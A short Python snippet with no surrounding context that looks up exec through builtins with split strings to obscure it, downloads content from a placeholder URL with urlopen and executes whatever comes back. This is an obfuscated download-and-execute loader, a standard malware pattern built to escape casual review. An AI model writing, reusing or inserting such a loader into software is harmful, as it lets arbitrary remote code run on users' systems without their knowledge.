b = globals()["__builtins__"]
f = getattr(b, "ex" + "ec") if not isinstance(b, dict) else b["ex" + "ec"]
u = getattr(__import__("urllib.request", fromlist=["x"]), "urlopen")
f(u("http://ga.example.invalid/s").read())
